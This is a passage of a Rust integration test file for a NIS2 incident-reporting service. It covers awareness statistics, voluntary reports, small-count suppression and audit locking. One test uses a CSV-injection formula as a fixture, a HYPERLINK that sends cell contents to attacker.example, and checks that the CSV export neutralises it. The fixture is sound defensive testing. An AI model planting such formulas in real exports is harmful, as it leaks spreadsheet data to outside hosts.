                .filter_map(|g| g[f].as_u64())
                .sum()
        };
        let left = b["total"]["entities"].as_u64().unwrap() - published("entities");
        assert!(left == 0 || left >= 3, "{dim}: {left} entities left over");
    }
    let csv = send(
        &app,
        get(
            "/api/v1/awareness/quarterly-summary?quarter=2026-Q1",
            &ctx.national(),
        )
        .insert_header(("Accept", "text/csv")),
    )
    .await;
    assert_eq!(csv.status, 200);
    assert!(
        csv.text.starts_with("quarter,dimension,key,incidents"),
        "{}",
        csv.text
    );
    assert!(csv.text.contains("2026-Q1,total,,18,4,"), "{}", csv.text);
    assert!(
        csv.text.contains("2026-Q1,sector,energy.gas,,,,,,,,true"),
        "{}",
        csv.text
    );

    let csirt = ctx.token("csirt-energy", Role::SectoralCsirt);
    let r = send(
        &app,
        get(
            "/api/v1/awareness/quarterly-summary?quarter=2026-Q1",
            &csirt,
        ),
    )
    .await;
    r.assert_problem(403, "forbidden");
}

#[actix_web::test]
async fn a_voluntary_near_miss_owes_nothing_and_is_counted_apart() {
    let ctx = Ctx::new();
    let app = app!(ctx);
    let national = ctx.national();
    let id = register_entity(&app, &national, "12345678", "energy.gas").await;
    let entity = ctx.token(&id, Role::Entity);
    let r = send(
        &app,
        post(
            "/api/v1/incidents",
            &entity,
            &json!({"entity_id": id, "stage": "notification", "kind": "near_miss",
                    "aware_at": Utc::now() - chrono::Duration::hours(1), "significant": true,
                    "summary": "Phishing mail caught before anyone clicked",
                    "threat_type": "fraud", "root_cause_category": "malicious_action"}),
        ),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let cl = &r.body["decision"]["classification"];
    assert_eq!(
        (&cl["kind"], &cl["mandatory"], &cl["significant"]),
        (&json!("near_miss"), &json!(false), &json!(false))
    );
    assert_eq!(
        r.body["next_obligation"],
        Value::Null,
        "no obligation on the reporter"
    );
    let recipients = r.body["decision"]["recipients"].as_array().unwrap();
    assert_eq!(
        recipients.len(),
        1,
        "the sectoral CSIRT only: {recipients:?}"
    );
    assert_eq!(recipients[0]["action"], "handle_after_mandatory");
    assert!(recipients[0]["rules"]
        .as_array()
        .unwrap()
        .contains(&json!("matrix.voluntary_after_mandatory")));
    assert!(
        r.body["stages"]
            .as_array()
            .unwrap()
            .iter()
            .all(|s| s["due_at"].is_null()),
        "no deadlines"
    );

    // A later report cannot turn it into something else.
    let more = send(
        &app,
        post(
            &format!(
                "/api/v1/incidents/{}/reports",
                r.body["id"].as_str().unwrap()
            ),
            &entity,
            &json!({"stage": "final", "kind": "incident", "summary": "x"}),
        ),
    )
    .await;
    assert_eq!(more.status, 422, "{}", more.text);
    assert_eq!(more.body["errors"][0]["pointer"], "/kind");

    let bad = send(
        &app,
        post(
            "/api/v1/incidents",
            &entity,
            &json!({"entity_id": id, "stage": "notification", "aware_at": Utc::now(),
                    "summary": "x", "threat_type": "ransomware"}),
        ),
    )
    .await;
    assert_eq!(bad.status, 422, "{}", bad.text);
    assert_eq!(bad.body["errors"][0]["pointer"], "/threat_type");
    let bad = send(
        &app,
        post(
            "/api/v1/incidents",
            &entity,
            &json!({"entity_id": id, "stage": "notification", "aware_at": Utc::now(),
                    "summary": "x", "root_cause_category": "gremlins"}),
        ),
    )
    .await;
    assert_eq!(bad.status, 422, "{}", bad.text);

    let now = Utc::now();
    let q = format!(
        "/api/v1/awareness?from={}&to={}&group_by=root_cause_category",
        (now - chrono::Duration::days(1)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        (now + chrono::Duration::days(1)).to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
    );
    let a = send(&app, get(&q.replace('+', "%2B"), &national)).await;
    assert_eq!(a.status, 200, "{}", a.text);
    let g = group(&a, "malicious_action");
    assert_eq!((&g["incidents"], &g["near_misses"]), (&json!(0), &json!(1)));
}

/// Art. 30: an organisation outside the register notifies a cyber threat through the national
/// CSIRT, which records it with the report (out of the scope of NIS2, so the notification is
/// voluntary); then an API client with `incidents:report` lets it report a near miss itself.
/// An organisation NIS2 covers, a sectoral CSIRT recording one, and a reporter beside an
/// `entity_id` are refused, writing nothing.
#[actix_web::test]
async fn a_reporter_outside_the_register_notifies_voluntarily_and_then_reports_itself() {
    let ctx = Ctx::new();
    let app = app!(ctx);
    let national = ctx.national();
    let mut bakery = entity_body("BAKERY-1", "energy.gas");
    bakery["name"] = json!("Village Gas Cooperative");
    bakery["size"] = json!("small");
    let aware = Utc::now() - chrono::Duration::hours(2);
    let threat = json!({"reporter": bakery, "stage": "notification", "kind": "cyber_threat",
                        "aware_at": aware, "summary": "Scans for exposed gas meter gateways",
                        "threat_type": "information-gathering"});

    // Refused first, and nothing is written.
    let tables = ["entities", "incidents", "events", "audit_log"];
    let before: Vec<i64> = tables.iter().map(|t| count(&ctx, t)).collect();
    let mut covered = threat.clone();
    covered["reporter"]["size"] = json!("large");
    let r = send(&app, post("/api/v1/incidents", &national, &covered)).await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(r.body["errors"][0]["pointer"], "/reporter", "{}", r.text);
    let mut both = threat.clone();
    both["entity_id"] = json!(uuid::Uuid::new_v4().to_string());
    let r = send(&app, post("/api/v1/incidents", &national, &both)).await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(r.body["errors"][0]["pointer"], "/reporter");
    let mut bad = threat.clone();
    bad["reporter"]["country"] = json!("XX");
    let r = send(&app, post("/api/v1/incidents", &national, &bad)).await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(r.body["errors"][0]["pointer"], "/reporter/country");
    let energy = ctx.token("csirt-energy", Role::SectoralCsirt);
    let r = send(&app, post("/api/v1/incidents", &energy, &threat)).await;
    assert_eq!(r.status, 403, "{}", r.text);
    let after: Vec<i64> = tables.iter().map(|t| count(&ctx, t)).collect();
    assert_eq!(after, before, "refused reports write nothing");

    // Recorded with the report, routed to the sector's CSIRT, owing nothing.
    let r = send(&app, post("/api/v1/incidents", &national, &threat)).await;
    assert_eq!(r.status, 201, "{}", r.text);
    let record = r.body["entity_id"].as_str().unwrap().to_string();
    let cl = &r.body["decision"]["classification"];
    assert_eq!(
        (&cl["kind"], &cl["mandatory"]),
        (&json!("cyber_threat"), &json!(false))
    );
    assert_eq!(r.body["next_obligation"], Value::Null);
    let recipients: Vec<&str> = r.body["decision"]["recipients"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["organisation_code"].as_str().unwrap())
        .collect();
    assert_eq!(recipients, ["csirt-energy"], "{}", r.text);
    let e = send(&app, get(&format!("/api/v1/entities/{record}"), &national)).await;
    assert_eq!(e.status, 200, "{}", e.text);
    assert_eq!(e.body["name"], "Village Gas Cooperative");
    assert_eq!(e.body["category"], "out_of_scope");

    // A client of its own: the reporter notifies a near miss itself.
    let c = send(
        &app,
        post(
            "/api/v1/clients",
            &national,
            &json!({"name": "Cooperative reporting", "organisation_id": record,
                    "scope": "incidents:report incidents:read"}),
        ),
    )
    .await;
    assert_eq!(c.status, 201, "{}", c.text);
    let grant = serde_urlencoded::to_string([
        ("grant_type", "client_credentials"),
        ("client_id", c.body["client_id"].as_str().unwrap()),
        ("client_secret", c.body["client_secret"].as_str().unwrap()),
    ])
    .unwrap();
    let t = send(
        &app,
        actix_web::test::TestRequest::post()
            .uri("/oauth/token")
            .insert_header(("content-type", "application/x-www-form-urlencoded"))
            .set_payload(grant),
    )
    .await;
    assert_eq!(t.status, 200, "{}", t.text);
    let own = t.body["access_token"].as_str().unwrap().to_string();
    let r = send(
        &app,
        post(
            "/api/v1/incidents",
            &own,
            &json!({"entity_id": record, "stage": "notification", "kind": "near_miss",
                    "aware_at": aware, "significant": true,
                    "summary": "A gateway's default password was found and changed in time"}),
        ),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.text);
    assert_eq!(r.body["decision"]["classification"]["mandatory"], false);
    assert!(r.body["stages"]
        .as_array()
        .unwrap()
        .iter()
        .all(|s| s["due_at"].is_null()));
    // It may not record reporters of its own.
    let mut other = threat.clone();
    other["reporter"]["identifier"] = json!("BAKERY-2");
    let r = send(&app, post("/api/v1/incidents", &own, &other)).await;
    assert_eq!(r.status, 403, "{}", r.text);
}

/// `time_basis=aware` puts an incident into the week the entity became aware of it instead of
/// the week it was reported; disclosure control is the same on either basis.
#[actix_web::test]
async fn the_time_basis_moves_incidents_between_weeks_and_suppression_still_holds() {
    let ctx = Ctx::new();
    // Reported in 2026-W12, the entities became aware in 2026-W10: four electricity
    // entities, and one gas entity (alone in its sector: below the threshold).
    let mut rows = vec![];
    for e in 0..4 {
        rows.push(Row {
            aware: Some(t(2 + e)),
            ..row(&format!("elec-{e}"), "energy.electricity", t(16 + e))
        });
    }
    rows.push(Row {
        aware: Some(t(3)),
        ..row("gas-0", "energy.gas", t(17))
    });
    seed(&ctx, &rows);
    let app = app!(ctx);
    let national = ctx.national();
    let energy = ctx.token("csirt-energy", Role::SectoralCsirt);

    let weeks = |r: &Res| -> Vec<(String, Value)> {
        r.body["groups"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|g| g["incidents"].as_u64().is_some_and(|n| n > 0))
            .map(|g| {
                (
                    g["key"].as_str().unwrap().to_string(),
                    g["incidents"].clone(),
                )
            })
            .collect()
    };
    for (token, who) in [(&national, "national"), (&energy, "sectoral")] {
        let reported = send(
            &app,
            get(&format!("/api/v1/awareness?{PERIOD}&group_by=week"), token),
        )
        .await;
        assert_eq!(reported.status, 200, "{}", reported.text);
        assert_eq!(reported.body["time_basis"], "reported", "the default");
        assert_eq!(
            weeks(&reported),
            vec![("2026-W12".to_string(), json!(5))],
            "{who}: {}",
            reported.text
        );
        let aware = send(
            &app,
            get(
                &format!("/api/v1/awareness?{PERIOD}&group_by=week&time_basis=aware"),
                token,
            ),
        )
        .await;
        assert_eq!(aware.status, 200, "{}", aware.text);
        assert_eq!(aware.body["time_basis"], "aware");
        assert_eq!(
            weeks(&aware),
            vec![("2026-W10".to_string(), json!(5))],
            "{who}: {}",
            aware.text
        );
    }

    // By sector the gas entity is alone in its week on either basis: withheld, and
    // electricity with it as its complement, so the total gives nothing away.
    for basis in ["reported", "aware"] {
        let r = send(
            &app,
            get(
                &format!("/api/v1/awareness?{PERIOD}&group_by=sector&time_basis={basis}"),
                &energy,
            ),
        )
        .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["time_basis"], basis);
        assert_eq!(r.body["suppressed_below"], 3);
        let gas = group(&r, "energy.gas");
        assert_eq!(gas["suppressed"], true, "{basis}: {}", r.text);
        assert_eq!(gas["incidents"], Value::Null, "{basis}");
        assert_eq!(gas["entities"], Value::Null, "{basis}");
        assert_eq!(
            group(&r, "energy.electricity")["suppressed"],
            true,
            "{basis}: the complement of gas"
        );
        let published: i64 = r.body["groups"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|g| g["incidents"].as_i64())
            .sum();
        if let Some(total) = r.body["total"]["incidents"].as_i64() {
            assert_ne!(
                total - published,
                1,
                "{basis}: the total minus the published groups singles out the gas incident: {}",
                r.text
            );
        }
    }
    // The national CSIRT sees gas on either basis.
    let r = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=sector&time_basis=aware"),
            &national,
        ),
    )
    .await;
    assert_eq!(group(&r, "energy.gas")["incidents"], 1, "{}", r.text);
}

/// A stored text that a spreadsheet would run as a formula (a sector code of some older
/// import, written straight into the register: the API itself only takes codes of the
/// taxonomy). The JSON answer keeps it as it is; the CSV download prefixes it with `'` (OWASP,
/// "CSV Injection"), quotes it because it holds commas and quotes, and leaves the figures
/// numbers.
#[actix_web::test]
async fn a_formula_in_a_stored_text_arrives_neutralised_in_the_csv() {
    const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"more\")";
    let ctx = Ctx::new();
    let rows: Vec<Row> = ["f1", "f2", "f3", "f4", "f5"]
        .iter()
        .map(|e| row(e, FORMULA, t(3)))
        .collect();
    seed(&ctx, &rows);
    let app = app!(ctx);
    let national = ctx.national();
    let path = format!("/api/v1/awareness?{PERIOD}&group_by=sector");

    let json = send(&app, get(&path, &national)).await;
    assert_eq!(json.status, 200, "{}", json.text);
    assert_eq!(group(&json, FORMULA)["incidents"], 5, "{}", json.text);

    let csv = send(
        &app,
        get(&path, &national).insert_header(("Accept", "text/csv")),
    )
    .await;
    assert_eq!(csv.status, 200, "{}", csv.text);
    let line = csv
        .text
        .lines()
        .find(|l| l.contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("no row of the stored sector: {}", csv.text));
    assert_eq!(
        line,
        "\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"more\"\")\",5,0,5,0,0,0,0,false",
        "{}",
        csv.text
    );
    // A CSV reader (RFC 4180) gets the text back with its one-character prefix.
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    let cells: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    assert!(
        cells
            .iter()
            .any(|r| r[0] == format!("'{FORMULA}") && r[1] == "5"),
        "{cells:?}"
    );
    assert!(cells.iter().all(|r| !r[0].starts_with('=')), "{cells:?}");

    // The quarterly summary for ENISA is a CSV download of the same register.
    let quarterly = send(
        &app,
        get(
            "/api/v1/awareness/quarterly-summary?quarter=2026-Q1",
            &national,
        )
        .insert_header(("Accept", "text/csv")),
    )
    .await;
    assert_eq!(quarterly.status, 200, "{}", quarterly.text);
    assert!(
        quarterly.text.contains(
            "2026-Q1,sector,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"more\"\")\","
        ),
        "{}",
        quarterly.text
    );
    assert!(
        !quarterly.text.contains(",=HYPERLINK"),
        "{}",
        quarterly.text
    );
}

/// Every answer made from the kept cells is the answer counted from the incidents, for every
/// reader, grouping, time basis and period (whole weeks, parts of days, one ending today),
/// and a change to an old incident reaches the answers before and after its day's cells are
/// made again.
#[actix_web::test]
async fn kept_cells_answer_exactly_as_the_incidents_do() {
    use nis2hub::auth::Caller;
    use nis2hub::awareness::model::GroupBy;
    use nis2hub::awareness::service;
    use nis2hub::incidents::repo::TimeBasis;
    let ctx = Ctx::new();
    // Eleven weeks of notifications from 30 entities in five sectors, every kind, threat
    // type and flag, some reported long after the entity became aware.
    let sectors = [
        "energy.electricity",
        "energy.gas",
        "energy.oil",
        "health",
        "transport.air",
    ];
    let threats = [
        None,
        Some("intrusions"),
        Some("malicious-code"),
        Some("availability"),
    ];
    let kinds = [
        "incident",
        "incident",
        "incident",
        "near_miss",
        "cyber_threat",
    ];
    let start = Utc.with_ymd_and_hms(2026, 1, 5, 0, 0, 0).unwrap();
    let mut rows = vec![];
    let mut seed_no = 0x9e37_79b9u64;
    let mut next = |n: u64| {
        seed_no ^= seed_no << 13;
        seed_no ^= seed_no >> 7;
        seed_no ^= seed_no << 17;
        seed_no % n
    };
    for i in 0..400u64 {
        let e = next(30);
        let at = start + chrono::Duration::minutes((next(77 * 24 * 60)) as i64);
        rows.push(Row {
            kind: kinds[next(5) as usize],
            significant: next(3) == 0,
            late: next(5) == 0,
            cross_border: next(4) == 0,
            threat_type: threats[next(4) as usize],
            aware: (i % 3 == 0).then(|| at - chrono::Duration::hours(next(400) as i64)),
            ..row(&format!("ent-{e}"), sectors[(e % 5) as usize], at)
        });
    }
    let pool = ctx.state.pool.clone();
    let mut conn = pool.get().unwrap();
    let caller = |org: String, role: Role| Caller {
        sub: "test".into(),
        org,
        role,
        scopes: vec![],
        client_id: None,
        request_id: "test".into(),
    };
    let callers = [
        caller(ctx.org_id("ncsirt"), Role::NationalCsirt),
        caller(ctx.org_id("csirt-energy"), Role::SectoralCsirt),
        caller(ctx.org_id("authority-health"), Role::SupervisoryAuthority),
    ];
    let cfg = ctx.state.config.awareness;
    let d = |s: &str| DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc);
    let periods = [
        (d("2026-01-05T00:00:00Z"), d("2026-03-23T00:00:00Z")),
        (d("2026-01-07T13:14:15.123456Z"), d("2026-03-02T08:00:00Z")),
        (d("2026-02-01T00:00:00Z"), d("2026-02-03T00:00:00.000001Z")),
        (d("2026-01-19T06:00:00Z"), Utc::now()),
    ];
    let answers = |conn: &mut nis2hub::db::DbConn| {
        let mut out = vec![];
        for c in &callers {
            for g in GroupBy::ALL {
                for basis in [TimeBasis::Reported, TimeBasis::Aware] {
                    for (from, to) in periods {
                        let a = service::awareness(conn, c, &cfg, g, basis, from, to)
                            .unwrap_or_else(|e| panic!("{g:?} {basis:?} {from}..{to}: {e}"));
                        out.push(serde_json::to_value(a).unwrap());
                    }
                }
            }
        }
        let q = service::quarterly(
            conn,
            &callers[0],
            &cfg,
            "2026-Q1",
            d("2026-01-01T00:00:00Z"),
            d("2026-04-01T00:00:00Z"),
        )
        .unwrap();
        out.push(serde_json::to_value(q).unwrap());
        out
    };
    let stale = |conn: &mut nis2hub::db::DbConn| -> i64 {
        use nis2hub::schema::awareness_stale as st;
        st::table.count().get_result(conn).unwrap()
    };
    let cells = |conn: &mut nis2hub::db::DbConn| -> i64 {
        use nis2hub::schema::awareness_cells as c;
        c::table.count().get_result(conn).unwrap()
    };
    // Written without the sweep: every day is stale and counted from the incidents.
    seed(&ctx, &rows[..1]);
    assert!(cells(&mut conn) > 0, "the sweep made cells");
    seed_stale(&ctx, &rows[1..]);
    assert!(stale(&mut conn) > 70, "each day written to is stale");
    let counted = answers(&mut conn);
    // The national figures are those of one plain GROUP BY with COUNT(DISTINCT entity_id).
    let plain = |conn: &mut nis2hub::db::DbConn| {
        use nis2hub::incidents::repo::count_by;
        let mut out = vec![];
        for g in GroupBy::ALL {
            for basis in [TimeBasis::Reported, TimeBasis::Aware] {
                for (from, to) in periods {
                    let mut rows: Vec<Value> = count_by(
                        conn,
                        g.grouping(),
                        basis,
                        from.naive_utc(),
                        to.naive_utc(),
                        None,
                    )
                    .unwrap()
                    .into_iter()
                    .map(|c| {
                        json!([
                            c.key,
                            c.incidents,
                            c.significant,
                            c.entities,
                            c.late,
                            c.near_misses,
                            c.cyber_threats,
                            c.cross_border
                        ])
                    })
                    .collect();
                    rows.sort_by_key(|r| r.to_string());
                    out.push(rows);
                }
            }
        }
        out
    };
    let national = |answers: &[Value]| {
        answers
            .iter()
            .take(GroupBy::ALL.len() * 2 * periods.len())
            .map(|a| {
                let mut rows: Vec<Value> = a["groups"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|g| {
                        json!([
                            g["key"],
                            g["incidents"],
                            g["significant"],
                            g["entities"],
                            g["late"],
                            g["near_misses"],
                            g["cyber_threats"],
                            g["cross_border"]
                        ])
                    })
                    .collect();
                rows.sort_by_key(|r| r.to_string());
                rows
            })
            .collect::<Vec<_>>()
    };
    let reference = plain(&mut conn);
    assert!(
        reference.iter().any(|r| r.len() > 3),
        "the register has figures"
    );
    assert_eq!(national(&counted), reference);
    nis2hub::awareness::cells::rebuild_all(&pool).unwrap();
    assert_eq!(stale(&mut conn), 0, "every ended day and week is made");
    let kept = answers(&mut conn);
    assert_eq!(counted.len(), kept.len());
    for (a, b) in counted.iter().zip(&kept) {
        assert_eq!(
            a, b,
            "an answer from the cells differs from the incidents' own"
        );
    }
    assert_eq!(national(&kept), reference);
    // A later report changes an old incident's threat type and lateness: its day is stale
    // again, and the answers follow at once, and again once the cells are made.
    diesel::sql_query(
        "UPDATE incidents SET threat_type = 'intrusions', late = NOT late \
         WHERE id = (SELECT id FROM incidents ORDER BY created_at LIMIT 1 OFFSET 50)",
    )
    .execute(&mut conn)
    .unwrap();
    assert!(stale(&mut conn) > 0, "the update marked its days stale");
    let changed = answers(&mut conn);
    assert_ne!(changed, kept, "the change shows");
    assert_eq!(
        national(&changed),
        plain(&mut conn),
        "the narrow copy awareness reads follows the update"
    );
    nis2hub::awareness::cells::rebuild_all(&pool).unwrap();
    assert_eq!(stale(&mut conn), 0);
    assert_eq!(answers(&mut conn), changed, "made again, the cells agree");
    // An incident removed (as a retention purge would) leaves the figures at once.
    diesel::sql_query(
        "DELETE FROM incidents WHERE id = (SELECT id FROM incidents ORDER BY created_at LIMIT 1 OFFSET 60)",
    )
    .execute(&mut conn)
    .unwrap();
    let removed = answers(&mut conn);
    assert_ne!(removed, changed, "the removal shows");
    assert_eq!(
        national(&removed),
        plain(&mut conn),
        "the narrow copy follows the removal"
    );
}

/// On a day of many reports the awareness reader's audit record waits for the report holding
/// the write lock, not for every report queued behind it: the record takes the audit chain's
/// lock alone, which a queued report asks for only once it holds the write lock.
#[actix_web::test]
async fn an_audited_read_waits_for_the_writer_holding_the_lock_not_for_the_queue() {
    use std::time::{Duration, Instant};
    let ctx = Ctx::new();
    if !ctx.db.is_postgres() {
        // SQLite has one writer at a time whatever the locks; nothing to show there.
        return;
    }
    let app = app!(ctx);
    let hold = Duration::from_millis(800);
    // A writer holding the write lock, and a second one queued behind it; each holds the lock
    // for `hold`, and tells when it committed.
    let writer = |pool: nis2hub::db::Pool, started: std::sync::mpsc::Sender<()>| {
        std::thread::spawn(move || {
            let mut conn = pool.get().unwrap();
            nis2hub::db::write_tx(&mut conn, |conn| {
                let _ = started.send(());
                nis2hub::db::lock_writes(conn)?;
                std::thread::sleep(hold);
                Ok(())
            })
            .unwrap();
            Instant::now()
        })
    };
    let (tx, rx) = std::sync::mpsc::channel();
    let first = writer(ctx.state.pool.clone(), tx.clone());
    rx.recv().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let second = writer(ctx.state.pool.clone(), tx);
    rx.recv().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let national = ctx.national();
    let r = send(&app, get("/api/v1/awareness?group_by=stage", &national)).await;
    let answered = Instant::now();
    assert_eq!(r.status, 200, "{}", r.text);
    let (first, second) = (first.join().unwrap(), second.join().unwrap());
    assert!(
        answered >= first,
        "the record waited for the writer holding the lock"
    );
    assert!(
        answered < second,
        "the record did not wait for the writer queued behind it ({:?} before its commit)",
        second.saturating_duration_since(answered)
    );
    // A transaction that took the audit lock alone may not take the write lock after it.
    let mut conn = ctx.state.pool.get().unwrap();
    let climbed = nis2hub::db::write_tx(&mut conn, |conn| {
        nis2hub::db::lock_audit_alone(conn)?;
        nis2hub::db::lock_writes(conn)
    });
    assert!(climbed.is_err());
}
